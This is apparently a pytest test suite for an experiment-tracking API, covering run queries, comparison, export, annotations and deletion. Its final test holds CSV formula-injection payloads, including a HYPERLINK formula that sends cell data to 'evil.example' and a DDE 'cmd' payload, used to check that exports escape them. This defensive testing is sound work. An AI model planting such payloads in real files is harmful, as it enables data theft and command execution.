"""Querying runs: filters, sorting, pagination, comparison, Pareto, export (PostgreSQL)."""

import csv
import io
import json

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import func, select, update

from backend.db.models import Experiment, Run, Training
from backend.db.session import session_scope
from backend.settings import Settings
from tests.pipeline.conftest import TINY_TRAINING

SPEC = {
    "name": "sweep",
    "training": TINY_TRAINING,
    "techniques": [{"name": "mercury"}],
    "accelerators": ["edge"],
    "sweep": {"parameters": {"mercury.signature_bits": {"values": [8, 16, 24]}}},
}


@pytest.fixture
def finished(api: TestClient, pg_settings: Settings) -> dict[int, dict[str, float]]:
    """An experiment whose runs carry distinct, known metrics (as a worker would store them)."""
    experiment = api.post("/api/v1/experiments", json=SPEC).json()
    metrics: dict[int, dict[str, float]] = {}
    with session_scope(pg_settings.effective_database_url) as db:
        runs = list(
            db.scalars(select(Run).where(Run.experiment_id == experiment["id"]).order_by(Run.id))
        )
        for run in runs:
            bits = run.params.get("mercury.signature_bits")
            values = {
                "accuracy": 0.95 if bits is None else 0.95 - 0.4 / bits,
                "total_cycles": 1_000_000 if bits is None else 400_000 + 20_000 * bits,
                "energy_pj": 5e6 if bits is None else 3e6 + 1e5 * bits,
            }
            db.execute(update(Run).where(Run.id == run.id).values(status="done", **values))
            metrics[run.id] = values
        baseline = next(r for r in runs if r.is_baseline)
        for run in runs:
            speedup = metrics[baseline.id]["total_cycles"] / metrics[run.id]["total_cycles"]
            db.execute(update(Run).where(Run.id == run.id).values(speedup=speedup))
            metrics[run.id]["speedup"] = speedup
    return metrics


def test_filters_sort_and_paginate_with_total(api: TestClient, finished: dict) -> None:
    page = api.get(
        "/api/v1/runs", params={"technique": "mercury", "sort": "-speedup", "limit": 2}
    ).json()
    assert page["total"] == 3
    assert len(page["items"]) == 2
    speedups = [r["speedup"] for r in page["items"]]
    assert speedups == sorted(speedups, reverse=True)
    assert page["items"][0]["params"]["mercury.signature_bits"] == 8
    rest = api.get(
        "/api/v1/runs", params={"technique": "mercury", "sort": "-speedup", "limit": 2, "offset": 2}
    ).json()
    assert len(rest["items"]) == 1 and rest["items"][0]["params"]["mercury.signature_bits"] == 24


def test_param_and_range_filters(api: TestClient, finished: dict) -> None:
    page = api.get("/api/v1/runs", params={"param": "mercury.signature_bits:16"}).json()
    assert [r["params"]["mercury.signature_bits"] for r in page["items"]] == [16]
    page = api.get("/api/v1/runs", params={"range": "speedup:1.2:", "sort": "id"}).json()
    assert {r["params"].get("mercury.signature_bits") for r in page["items"]} == {8, 16}
    page = api.get("/api/v1/runs", params={"param": "technique:baseline"}).json()
    assert page["total"] == 1 and page["items"][0]["is_baseline"]


def test_bad_query_parameters_are_422(api: TestClient) -> None:
    for params, text in [
        ({"sort": "-nope"}, "unknown column 'nope'"),
        ({"range": "speedup:x:"}, "must be numbers"),
        ({"range": "bogus:1:2"}, "metric:min:max"),
        ({"param": "nocolon"}, "path:value"),
        ({"limit": 0}, "greater than or equal to 1"),
    ]:
        response = api.get("/api/v1/runs", params=params)
        assert response.status_code == 422, params
        assert text in response.text


def test_compare_against_baseline(api: TestClient, finished: dict) -> None:
    ids = sorted(finished)
    rows = api.get("/api/v1/runs/compare", params={"ids": ids}).json()
    by_id = {row["run_id"]: row for row in rows}
    baseline_id = next(i for i, row in by_id.items() if row["technique"] == "baseline")
    for run_id, row in by_id.items():
        assert row["baseline_run_id"] == baseline_id
        expected = finished[run_id]["accuracy"] - finished[baseline_id]["accuracy"]
        assert row["accuracy_delta"] == pytest.approx(expected)
    assert api.get("/api/v1/runs/compare", params={"ids": [999999]}).status_code == 404


def test_pareto_marks_the_undominated_runs(api: TestClient, finished: dict) -> None:
    points = api.get("/api/v1/runs/pareto").json()
    assert len(points) == 4
    # More bits: slower but more accurate, so every point trades one for the other.
    assert all(p["on_front_2d"] for p in points)
    baseline_id = min(finished)
    for point in points:
        expected = finished[baseline_id]["accuracy"] - finished[point["run_id"]]["accuracy"]
        assert point["accuracy_drop"] == pytest.approx(expected)


def test_export_streams_every_matching_run(api: TestClient, finished: dict) -> None:
    response = api.get("/api/v1/runs/export", params={"format": "csv", "sort": "id"})
    assert response.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert [int(r["id"]) for r in rows] == sorted(finished)
    assert {"created_at", "duration_seconds", "params", "speedup"} <= set(rows[0])
    assert json.loads(rows[1]["params"])["accelerator"] == "edge"
    # Everything stored about a run, flat: training config, accelerator, technique settings
    # (those not swept too), baseline and error.
    for row in rows:
        detail = api.get(f"/api/v1/runs/{row['id']}").json()
        assert row["baseline_run_id"] == str(detail["baseline_run_id"] or "")
        assert row["training.model"] == "mlp"
        assert row["training.learning_rate"] == str(detail["training_config"]["learning_rate"])
        assert row["accelerator.rows"] == str(detail["accelerator_config"]["rows"])
        assert row["accelerator.energy.dram"] == str(detail["accelerator_config"]["energy"]["dram"])
        params = {p["name"]: p for p in detail["technique_params"]}
        if "mercury" in params:
            assert row["mercury.signature_bits"] == str(params["mercury"]["signature_bits"])
            assert (
                json.loads(row["mercury.excluded_layers"]) == params["mercury"]["excluded_layers"]
            )
        else:
            assert row["mercury.signature_bits"] == ""
        assert row["sparsetrain.prune_rate"] == ""
    data = api.get("/api/v1/runs/export", params={"format": "json", "technique": "mercury"}).json()
    assert len(data) == 3 and all(row["technique"] == "mercury" for row in data)
    assert sorted(row["technique_params"][0]["signature_bits"] for row in data) == [8, 16, 24]
    assert all(row["accelerator_config"]["name"] == "edge" for row in data)


def test_time_and_area_are_fields_sort_keys_and_export_columns(
    api: TestClient, finished: dict, pg_settings: Settings
) -> None:
    areas = {}
    with session_scope(pg_settings.effective_database_url) as db:
        for position, run_id in enumerate(sorted(finished)):
            cycles = finished[run_id]["total_cycles"]
            areas[run_id] = 10.0 - position  # the later the run, the smaller its accelerator
            values = {"seconds": cycles / 200e6, "seconds_per_step": cycles / 200e6 / 50}
            db.execute(update(Run).where(Run.id == run_id).values(area_mm2=areas[run_id], **values))
    page = api.get("/api/v1/runs", params={"sort": "area_mm2"}).json()
    assert [run["id"] for run in page["items"]] == sorted(areas, key=areas.__getitem__)
    by_time = api.get("/api/v1/runs", params={"sort": "-seconds"}).json()["items"]
    assert [run["seconds"] for run in by_time] == sorted(
        (finished[i]["total_cycles"] / 200e6 for i in finished), reverse=True
    )
    rows = list(csv.DictReader(io.StringIO(api.get("/api/v1/runs/export?sort=id").text)))
    assert {"seconds", "seconds_per_step", "area_mm2", "energy_pj"} <= set(rows[0])
    for row in rows:
        run_id = int(row["id"])
        assert float(row["area_mm2"]) == areas[run_id]
        assert float(row["seconds"]) == pytest.approx(finished[run_id]["total_cycles"] / 200e6)
        assert float(row["seconds_per_step"]) == pytest.approx(float(row["seconds"]) / 50)


def test_run_detail_and_404(api: TestClient, finished: dict) -> None:
    run_id = max(finished)
    detail = api.get(f"/api/v1/runs/{run_id}").json()
    assert detail["accelerator_config"]["name"] == "edge"
    assert detail["training_config"]["model"] == "mlp"
    assert detail["layers"] == [] and detail["epochs"] == []
    assert api.get("/api/v1/runs/999999").status_code == 404


def test_tags_and_notes_are_stored_searched_and_exported(api: TestClient, finished: dict) -> None:
    first, second = sorted(finished)[:2]
    experiment_id = api.get(f"/api/v1/runs/{first}").json()["experiment_id"]
    answer = api.patch(
        f"/api/v1/runs/{first}",
        json={"tags": [" Figure-3 ", "figure-3", "keep"], "notes": "odd dip"},
    )
    assert answer.status_code == 200, answer.text
    assert answer.json()["tags"] == ["Figure-3", "figure-3", "keep"]  # stripped, kept distinct
    assert api.patch(f"/api/v1/runs/{first}", json={"notes": "odd dip at 16 bits"}).json()[
        "tags"
    ] == ["Figure-3", "figure-3", "keep"]  # a field left out stays as it was
    experiment = api.patch(
        f"/api/v1/experiments/{experiment_id}", json={"tags": ["sweep-a"], "notes": "first try"}
    )
    assert experiment.status_code == 200
    assert experiment.json()["tags"] == ["sweep-a"] and experiment.json()["notes"] == "first try"

    def found(q: str) -> list[int]:
        return [
            r["id"] for r in api.get("/api/v1/runs", params={"q": q, "sort": "id"}).json()["items"]
        ]

    assert found("FIGURE-3") == [first]  # tags, any case
    assert found("dip 16") == [first]  # every word, in the notes
    assert api.get(f"/api/v1/runs/{first}").json()["technique"] == "baseline"
    assert found("dip baseline") == [first] and found("dip mercury") == []
    assert sorted(found("sweep-a")) == sorted(finished)  # the experiment's tags reach its runs
    assert found("50%") == [] and found("no_such") == []  # wildcards are plain characters
    assert second not in found("keep")
    rows = list(csv.DictReader(io.StringIO(api.get("/api/v1/runs/export?q=keep").text)))
    assert [int(r["id"]) for r in rows] == [first]
    assert json.loads(rows[0]["tags"]) == ["Figure-3", "figure-3", "keep"]
    assert rows[0]["notes"] == "odd dip at 16 bits"


def test_bad_annotations_name_the_field(api: TestClient, finished: dict) -> None:
    run_id = min(finished)
    for body, field in (
        ({"tags": ["x" * 41]}, ["body", "tags", 0]),
        ({"tags": [""]}, ["body", "tags", 0]),
        ({"tags": [str(i) for i in range(21)]}, ["body", "tags"]),
        ({"notes": "x" * 20_001}, ["body", "notes"]),
        ({"status": "done"}, ["body", "status"]),
    ):
        answer = api.patch(f"/api/v1/runs/{run_id}", json=body)
        assert answer.status_code == 422, body
        assert answer.json()["detail"][0]["loc"] == field
    assert api.get(f"/api/v1/runs/{run_id}").json()["tags"] == []  # nothing half-stored
    assert api.patch("/api/v1/runs/999999", json={"notes": "x"}).status_code == 404


def test_summary_groups_by_a_column_or_a_swept_value(api: TestClient, finished: dict) -> None:
    by_technique = api.get("/api/v1/runs/summary", params={"by": "technique"})
    assert by_technique.status_code == 200, by_technique.text
    groups = {g["value"]: g for g in by_technique.json()}
    assert set(groups) == {"baseline", "mercury"}
    mercury_ids = [i for i in finished if i != min(finished)]
    accuracies = [finished[i]["accuracy"] for i in mercury_ids]
    mean = sum(accuracies) / len(accuracies)
    sd = (sum((a - mean) ** 2 for a in accuracies) / (len(accuracies) - 1)) ** 0.5
    stats = groups["mercury"]["metrics"]["accuracy"]
    assert groups["mercury"]["runs"] == stats["n"] == 3
    assert stats["mean"] == pytest.approx(mean) and stats["sd"] == pytest.approx(sd)
    assert groups["baseline"]["metrics"]["speedup"] == {"n": 1, "mean": 1.0, "sd": None}
    assert groups["baseline"]["metrics"]["dram_bytes"] == {"n": 0, "mean": None, "sd": None}

    by_bits = api.get(
        "/api/v1/runs/summary",
        params={"by": "param:mercury.signature_bits", "technique": "mercury"},
    ).json()
    assert [g["value"] for g in by_bits] == [8, 16, 24]  # numbers in numeric order
    assert all(g["runs"] == 1 and g["metrics"]["accuracy"]["sd"] is None for g in by_bits)
    refused = api.get("/api/v1/runs/summary", params={"by": "password_hash"})
    assert refused.status_code == 422 and "by:" in refused.text


def test_run_table_columns_are_kept_per_user(api: TestClient) -> None:
    assert api.get("/api/v1/preferences").json() == {"run_table_columns": None}
    chosen = ["id", "technique", "speedup", "tags"]
    saved = api.put("/api/v1/preferences", json={"run_table_columns": chosen})
    assert saved.status_code == 200 and saved.json()["run_table_columns"] == chosen
    assert api.get("/api/v1/preferences").json()["run_table_columns"] == chosen
    refused = api.put("/api/v1/preferences", json={"run_table_columns": ["id", "nope"]})
    assert refused.status_code == 422
    assert refused.json()["detail"][0]["loc"] == ["body", "run_table_columns", 1]
    assert api.get("/api/v1/preferences").json()["run_table_columns"] == chosen


def test_delete_is_refused_while_active_or_referenced_then_removes_only_its_own(
    api: TestClient, finished: dict, pg_settings: Settings
) -> None:
    url = pg_settings.effective_database_url
    baseline_id = min(finished)
    mercury_ids = sorted(set(finished) - {baseline_id})
    refused = api.delete(f"/api/v1/runs/{baseline_id}")
    assert refused.status_code == 409 and "baseline of 3 other run(s)" in refused.text
    with session_scope(url) as db:
        db.execute(update(Run).where(Run.id == mercury_ids[0]).values(status="running"))
    running = api.delete(f"/api/v1/runs/{mercury_ids[0]}")
    assert running.status_code == 409 and "running: cancel it first" in running.text
    experiment_id = api.get(f"/api/v1/runs/{baseline_id}").json()["experiment_id"]
    whole = api.delete(f"/api/v1/experiments/{experiment_id}")
    assert whole.status_code == 409 and "cancel it first" in whole.text
    with session_scope(url) as db:
        db.execute(update(Run).where(Run.id == mercury_ids[0]).values(status="done"))
        trainings_before = db.scalar(select(func.count()).select_from(Training))

    assert api.delete(f"/api/v1/runs/{mercury_ids[0]}").status_code == 204
    assert api.get(f"/api/v1/runs/{mercury_ids[0]}").status_code == 404
    with session_scope(url) as db:
        # Its own training went with it (no other run shared it); the others stay.
        assert db.scalar(select(func.count()).select_from(Training)) == trainings_before - 1
        assert db.scalar(select(func.count()).select_from(Run)) == len(finished) - 1
    for run_id in mercury_ids[1:]:
        assert api.delete(f"/api/v1/runs/{run_id}").status_code == 204
    assert api.delete(f"/api/v1/runs/{baseline_id}").status_code == 204  # no longer referenced
    assert api.delete(f"/api/v1/experiments/{experiment_id}").status_code == 204
    assert api.get(f"/api/v1/experiments/{experiment_id}").status_code == 404
    with session_scope(url) as db:
        for model in (Run, Training, Experiment):
            assert db.scalar(select(func.count()).select_from(model)) == 0


def test_the_csv_export_never_hands_a_spreadsheet_a_formula(
    api: TestClient, pg_settings: Settings
) -> None:
    """A custom accelerator's name and run notes that a spreadsheet would run come out as text
    (OWASP's leading apostrophe); the JSON export keeps them as written."""
    hyperlink = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    spec = {**SPEC, "accelerators": [{"name": hyperlink}], "sweep": None}
    experiment = api.post("/api/v1/experiments", json=spec)
    assert experiment.status_code == 201, experiment.text
    run_id = next(
        r["id"]
        for r in api.get("/api/v1/runs", params={"sort": "id"}).json()["items"]
        if not r["is_baseline"]
    )
    notes = "=cmd|' /C calc'!A0"
    assert api.patch(f"/api/v1/runs/{run_id}", json={"notes": notes}).status_code == 200
    rows = {
        int(row["id"]): row
        for row in csv.DictReader(
            io.StringIO(api.get("/api/v1/runs/export", params={"format": "csv"}).text)
        )
    }
    assert rows[run_id]["notes"] == "'" + notes
    assert rows[run_id]["accelerator_name"] == "'" + hyperlink
    assert rows[run_id]["accelerator.name"] == "'" + hyperlink
    assert rows[run_id]["speedup"] == ""  # numbers and empty cells are left alone
    assert all(
        not value.startswith(("=", "+", "@", "\t", "\r"))
        for row in rows.values()
        for value in row.values()
    )
    exported = api.get("/api/v1/runs/export", params={"format": "json"}).json()
    assert {row["notes"] for row in exported} >= {notes}
